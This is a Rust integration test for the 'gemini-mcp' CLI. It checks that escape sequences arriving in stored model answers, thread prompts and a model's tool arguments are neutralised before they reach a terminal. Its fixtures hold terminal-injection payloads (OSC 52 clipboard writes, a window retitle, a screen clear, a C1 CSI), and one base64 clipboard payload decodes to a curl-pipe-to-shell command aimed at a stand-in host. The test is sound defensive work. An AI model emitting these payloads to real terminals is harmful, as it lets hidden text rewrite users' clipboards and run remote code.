//! The command line on a pseudo-terminal: what came from outside (Gemini's stored answers, the
//! prompts kept in a thread, a model's chosen arguments in an investigation's steps) is shown,
//! never obeyed — no escape, BEL or C1 control reaches the terminal raw, on stdout or stderr.
//! Only our own escapes do: colours (SGR) and the spinner's line clear.

use std::io::Read;
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::support::fake_gemini::{FakeGemini, Script};

const KEY: &str = "test-key";

/// OSC 52 (writes the clipboard), OSC 0 (retitles the window), clear screen, and a C1 CSI.
const HOSTILE: &str =
    "Sure.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}8m done";

fn gemini_mcp(root: &Path, fake: &FakeGemini) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_gemini-mcp"));
    cmd.env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", root.join(".home"))
        .env("GEMINI_MCP_STATE_DIR", root.join(".state"))
        .env("GEMINI_MCP_LOG", "warn")
        .env("PROJECT_ROOT", root)
        .env("GEMINI_MCP_STORE", "embedded")
        .env("GEMINI_API_KEY", KEY)
        .env("GEMINI_BASE_URL", fake.base_url())
        .current_dir(root);
    cmd
}

/// Runs `cmd` with stdout and stderr on a pseudo-terminal: its exit code and everything the
/// terminal received.
fn on_a_terminal(cmd: &mut Command) -> (i32, String) {
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};

    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let name = ptsname(&master, Vec::new()).unwrap();
    let terminal = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(name.to_str().unwrap())
        .unwrap();
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(terminal.try_clone().unwrap())
        .stderr(terminal)
        .spawn()
        .unwrap();
    // Drop our copies of the terminal's end: the reader sees the end when the child exits.
    cmd.stdout(Stdio::null()).stderr(Stdio::null());
    let mut master = std::fs::File::from(master);
    let reader = std::thread::spawn(move || {
        let mut got = Vec::new();
        // Linux ends a pty's output with EIO once the other end is closed: what came is kept.
        let _ = master.read_to_end(&mut got);
        got
    });
    let status = child.wait().unwrap();
    let got = reader.join().unwrap();
    (
        status.code().expect("exited normally"),
        String::from_utf8_lossy(&got).into_owned(),
    )
}

/// The control characters that reached the terminal raw, besides our own escapes (SGR colours
/// `ESC [ … m` and the spinner's `ESC [ 2K`) and the line ends.
fn raw_controls(out: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (i, c) in out.char_indices() {
        if c == '\u{1b}' {
            let rest = &out[i + 1..];
            let ours = rest.strip_prefix('[').is_some_and(|params| {
                let end = params
                    .find(|c: char| !(c.is_ascii_digit() || c == ';'))
                    .unwrap_or(params.len());
                params[end..].starts_with('m') || params.starts_with("2K")
            });
            if ours {
                continue;
            }
            found.push(format!("ESC at {i}: {:?}", &rest[..rest.len().min(12)]));
        } else if (c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        {
            found.push(format!("U+{:04X} at {i}", c as u32));
        }
    }
    found
}

#[test]
fn what_came_from_outside_cannot_drive_the_terminal() {
    let dir = crate::support::project::with(&[crate::support::project::STUB_LIB]);
    let root = std::fs::canonicalize(dir.path()).unwrap();
    let fake = FakeGemini::start();
    fake.require_key(KEY);

    // A thread whose prompt opens with OSC 0 and whose answer carries the lot (stored, not shown).
    fake.push(Script::text(HOSTILE));
    let out = gemini_mcp(&root, &fake)
        .args(["chat", "\u{1b}]0;title\u{7}Is a trie overkill?"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // An investigation whose model searches for a pattern of its choosing.
    fake.push(Script::calls(
        &[(
            "search_text",
            json!({"pattern": "\u{1b}]52;c;cGF0dGVybg==\u{7}\u{1b}[2J\u{9b}1m"}),
        )],
        "U0lH",
        [100, 5, 5],
    ))
    .push(Script::text("Nothing matches."));

    let cases: [(&[&str], &str); 5] = [
        (&["threads", "list"], "^[]0;title^GIs a trie overkill?"),
        (
            &["threads", "show", "latest"],
            "Sure.^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G^[]0;owned^G^[[2J<U+009B>8m done",
        ),
        (
            &["threads", "export", "latest"],
            "Sure.^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G^[]0;owned^G^[[2J<U+009B>8m done",
        ),
        (
            &["threads", "export", "latest", "--format", "json"],
            r"Sure.\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b]0;owned\u0007\u001b[2J\u009b8m done",
        ),
        (
            // A step's label is one line with its control characters already made spaces
            // (steps are capped and flattened before any edge sees them).
            &["investigate", "Where is the pattern?"],
            "searched ` ]52;c;cGF0dGVybg==  [2J 1m`",
        ),
    ];
    let mut failures = Vec::new();
    for (args, shown) in cases {
        let (code, out) = on_a_terminal(gemini_mcp(&root, &fake).args(args));
        let raw = raw_controls(&out);
        if code != 0 || !raw.is_empty() || !out.contains(shown) {
            failures.push(format!(
                "{}: exit {code}, raw controls {raw:?}, shown {:?}: {out:?}",
                args.join(" "),
                out.contains(shown)
            ));
        }
        if args.contains(&"json") {
            // Escaped, not altered: the document is the stored one.
            let doc: Value = serde_json::from_str(&out).unwrap();
            assert_eq!(doc["turns"][0]["response"], HOSTILE, "{doc}");
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}
